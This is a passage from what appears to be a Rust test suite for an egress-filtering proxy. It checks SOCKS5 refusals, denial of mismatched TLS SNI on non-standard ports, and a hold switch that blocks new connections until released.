    assert_eq!(reply, vec![5, 0xff]);
    // an IPv4 literal outside the name rules is refused like any target
    let mut v4 = vec![1, 127, 0, 0, 1];
    v4.extend_from_slice(&port.to_be_bytes());
    let (_s, reply) = socks_connect(p.addr, Some(token.expose()), &v4).await;
    assert_eq!(
        reply.get(..2),
        Some(&[5u8, 2][..]),
        "IP literal not in the name rules: {reply:?}"
    );
    // BIND is not supported
    let mut s = TcpStream::connect(p.addr).await.unwrap();
    s.write_all(&[5, 1, 2]).await.unwrap();
    let mut r2 = [0u8; 2];
    s.read_exact(&mut r2).await.unwrap();
    let mut m = vec![1, 1, b'w', token.expose().len() as u8];
    m.extend_from_slice(token.expose().as_bytes());
    s.write_all(&m).await.unwrap();
    s.read_exact(&mut r2).await.unwrap();
    let mut bind = vec![5, 2, 0];
    bind.extend_from_slice(&socks_domain("web.test", port));
    s.write_all(&bind).await.unwrap();
    let mut reply = [0u8; 10];
    s.read_exact(&mut reply).await.unwrap();
    assert_eq!(reply[1], 7);
    let recs = p.records(6).await;
    assert!(
        recs.iter().skip(1).all(|r| r.outcome == Outcome::Denied),
        "{recs:?}"
    );
}

#[tokio::test]
async fn a_tls_tunnel_on_a_port_outside_sni_ports_is_checked_too() {
    // The default configuration inspects port 443 only; an allow rule
    // without a port also opens 8443, 2053, … where a CDN routes by SNI.
    let (origin, cert) = tls_origin("origin.test").await;
    let config = cfg();
    assert_eq!(config.sni_ports, vec![443]);
    assert_ne!(origin.port(), 443);
    let p = TestProxy::start(
        config,
        &["origin.test"],
        &[] as &[&str],
        StaticResolver::new()
            .with("origin.test", &[lo()])
            .with("echo.test", &[lo()])
            .with("banner.test", &[lo()]),
    )
    .await;
    assert!(!tls_through(&p, origin, &cert, server_name("other.test")).await);
    let r = p.last_record(1).await;
    assert_eq!(
        (r.outcome, r.reason.as_str()),
        (Outcome::Denied, "sni_mismatch"),
        "fronting on another port"
    );
    assert_eq!(r.bytes_up, 0, "nothing reached the upstream");
    // positive controls: the matching SNI passes on that port, and so do a
    // client-first and a server-first protocol that are not TLS
    assert!(tls_through(&p, origin, &cert, server_name("origin.test")).await);
    assert_eq!(p.last_record(2).await.outcome, Outcome::Allowed);
    let echo = echo_origin().await;
    let (mut s, h) = connect_tunnel(p.addr, &format!("origin.test:{}", echo.port()), "").await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert!(tunnel_works(&mut s).await, "a client-first plain protocol");
    drop(s);
    let banner = firehose_origin(300).await;
    let (mut s, h) = connect_tunnel(p.addr, &format!("origin.test:{}", banner.port()), "").await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert_eq!(
        read_to_end(&mut s).await.len(),
        300,
        "a server-first protocol"
    );
}

#[tokio::test]
async fn a_held_proxy_refuses_new_connections_until_released() {
    use palisade_egress::decide::HostRules;
    use palisade_egress::proxy::{Listener, Proxy, shutdown_channel};
    use palisade_egress::record::MemoryRecorder;
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    let origin = echo_origin().await;
    let hold = Arc::new(AtomicBool::new(false));
    let recorder = Arc::new(MemoryRecorder::new());
    let proxy = Proxy::new(
        cfg().with_hold(hold.clone(), "ship_backlog"),
        Arc::new(HostRules::new(&["127.0.0.1"], &[] as &[&str]).unwrap()),
        Arc::new(StaticResolver::new()),
        recorder.clone(),
    );
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let (_shutdown, signal) = shutdown_channel();
    tokio::spawn(async move { proxy.serve(Listener::Tcp(l), signal).await });
    let auth = format!("127.0.0.1:{}", origin.port());
    // Positive control: not held, the tunnel works.
    let (mut s, h) = connect_tunnel(addr, &auth, "").await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert!(tunnel_works(&mut s).await);
    hold.store(true, Ordering::SeqCst);
    let (_s, h) = connect_tunnel(addr, &auth, "").await;
    assert!(
        h.starts_with("HTTP/1.1 503") && h.contains("ship_backlog"),
        "{h}"
    );
    // Released: the same connection is served again.
    hold.store(false, Ordering::SeqCst);
    let (mut s, h) = connect_tunnel(addr, &auth, "").await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert!(tunnel_works(&mut s).await);
}
